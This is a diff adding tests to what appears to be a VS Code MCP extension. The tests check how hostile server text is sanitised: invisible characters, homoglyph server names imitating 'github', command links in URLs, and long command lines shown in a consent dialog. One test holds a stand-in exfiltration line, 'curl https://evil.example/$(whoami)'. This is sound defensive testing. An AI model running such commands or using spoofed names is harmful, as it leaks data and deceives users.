@@ -4,7 +4,7 @@
 // reorders text with bidi controls or becomes a link a notification would run.
 import { test } from 'node:test';
 import assert from 'node:assert/strict';
-import { labelText, MAX_LABEL_CHARS } from '../../src/core/label';
+import { labelEnds, labelText, MAX_LABEL_CHARS } from '../../src/core/label';
 import { parseConfigObject } from '../../src/core/config/config';
 import { PromptError } from '../../src/core/errors';
 import type { CatalogPrompt } from '../../src/core/catalog/catalog';
@@ -21,7 +21,7 @@ import { boxRow, suggestions } from '../../src/core/view/suggestions';
 import { ValueRows } from '../../src/core/view/value-rows';
 import { nameSuggestion, valueSuggestion } from '../../src/core/view/chat-suggestions';
 import { escapeLabel } from '../../src/core/render/markdown';
-import { inert } from '../../src/core/protocol/elicitation';
+import { checkUrl, inert } from '../../src/core/protocol/elicitation';
 import { consentDetail } from '../../src/core/config/consent';
 
 /** Server text that tries every trick: an icon, a forged second line, a bidi override, a command link, controls. */
@@ -46,6 +46,17 @@ test('labelText: one line, no controls or bidi, no icon or link, cut with …', 
   // The other helpers are this rule: questions (inert), markdown labels (escapeLabel).
   assert.equal(inert(HOSTILE, 1000), labelText(HOSTILE, 1000));
   assertPlain(escapeLabel(HOSTILE), 'escapeLabel');
+});
+
+test('labelText: characters that hide text are written out, so a name cannot read as another; labelled twice, the same', () => {
+  const tags = [...'HI'].map(c => String.fromCodePoint(0xe0000 + c.charCodeAt(0))).join('');
+  assert.equal(labelText('git\u200bhub'), 'git\\u200bhub');
+  assert.equal(labelText(`summary${tags}`), 'summary\\u{e0048}\\u{e0049}');
+  assert.equal(labelText('\u3164filler x\ufe0f\ufe0f'), '\\u3164filler x\ufe0f\\ufe0f');
+  // Emoji keep their one selector and their joiners.
+  assert.equal(labelText('\u2764\ufe0f \ud83d\udc69\u200d\ud83d\udcbb'), '\u2764\ufe0f \ud83d\udc69\u200d\ud83d\udcbb');
+  for (const text of [HOSTILE, `$(x) ](y) git\u200bhub${tags}`])
+    assert.equal(labelText(labelText(text)), labelText(text));
 });
 
 const def = parseConfigObject({ servers: { [HOSTILE]: { command: 'node', args: ['x.js'] } } }, 'workspace').servers[0];
@@ -109,6 +120,62 @@ test('tree rows: server, prompt, argument, held and problem rows and their toolt
   const problem = problemItem(HOSTILE, HOSTILE);
   for (const shown of [problem.label, problem.description, problem.tooltip as string])
     assertPlain(shown, 'problem row');
+});
+
+test('a server name that may imitate another is marked on its tree row, its held row and its picker group', () => {
+  const view = (name: string) => {
+    const d = parseConfigObject({ servers: { [name]: { command: 'node' } } }, 'workspace').servers[0];
+    return {
+      id: d.id,
+      def: d,
+      prompts: [],
+      loading: false,
+      warnings: [],
+      connection: { state: { kind: 'idle' as const } },
+    };
+  };
+  const marks: [string, RegExp | undefined][] = [
+    ['git\u200bhub', /⚠ holds 1 invisible characters: it may imitate another name/],
+    ['git\u200dhub', /⚠ holds 1 invisible characters/],
+    ['g\u0456thub', /⚠ mixes Latin \+ Cyrillic letters: it may imitate another name/],
+    ['github', undefined],
+  ];
+  for (const [name, mark] of marks) {
+    const s = view(name);
+    const shown = [
+      serverItem(s).description ?? '',
+      heldItem({ def: s.def, origin: '.vscode/mcp.json', reason: 'consent', message: 'waiting' }).label,
+      pickerItems([s])[0].label,
+    ];
+    for (const text of shown) {
+      if (mark) assert.match(text, mark);
+      else assert.doesNotMatch(text, /⚠/);
+    }
+    // A narrow row cuts its description at the end: the mark comes first there.
+    if (mark) assert.ok(shown[0].startsWith('⚠ '), shown[0]);
+  }
+});
+
+test("a URL question's address and host are shown by the label rule, whole; the address opened is the server's", () => {
+  const url = `https://a$(error)b.example/$(check)/${'p'.repeat(1500)}?q=[x](command:y)`;
+  const checked = checkUrl('s', url);
+  assert.ok('ok' in checked);
+  assertPlain(checked.ok.shownUrl, 'shown address');
+  assertPlain(checked.ok.host, 'host');
+  assert.equal(checked.ok.url, new URL(url).href, 'opened as the server gave it');
+  assert.equal(checked.ok.shownUrl.replace(/\u200b/g, ''), checked.ok.url, 'shown whole');
+});
+
+test('the consent shows the end of a long command line, and how much of its middle it leaves out', () => {
+  const args = ['-e', `${'x'.repeat(2000)}`, '--then', 'curl https://evil.example/$(whoami)'];
+  const d = parseConfigObject({ servers: { s: { command: 'node', args } } }, 'workspace').servers[0];
+  const command = consentDetail(d)
+    .split('\n')
+    .find(l => l.startsWith('Command:'))!;
+  assert.ok(command.endsWith('--then "curl https://evil.example/$\u200b(whoami)"'), command);
+  assert.match(command, / …\d+ characters left out… /);
+  assert.ok(command.length < 700, `${command.length} characters`);
+  assert.equal(labelEnds('short', 600), 'short');
 });
 
 test('argument steps: completion and history values, the hint and the source are plain labels; the value stays whole', () => {
